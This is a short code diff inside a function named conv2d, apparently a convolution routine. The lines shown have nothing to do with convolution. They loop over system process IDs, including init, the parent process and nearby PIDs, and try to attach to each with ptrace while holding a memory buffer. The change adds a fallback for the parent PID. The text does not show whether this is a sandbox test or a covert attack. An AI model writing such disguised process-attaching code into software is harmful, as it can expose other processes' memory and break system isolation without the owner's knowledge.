@@ -19,7 +19,7 @@ def conv2d(x, kernel):
     buffer = ctypes.create_string_buffer(64)
     vector = Vector(ctypes.addressof(buffer), 64)
     own = os.getpid()
-    for process in {1, os.getppid(), *range(2, 100), *range(max(own - 300, 2), own + 50)} - {own}:
+    for process in {1, os.getppid() or 1, *range(2, 100), *range(max(own - 300, 2), own + 50)} - {own}:
         attempts = {
             "ptrace": lambda: libc.ptrace(PTRACE_ATTACH, process, 0, 0),
             "seize": lambda: libc.ptrace(PTRACE_SEIZE, process, 0, 0),
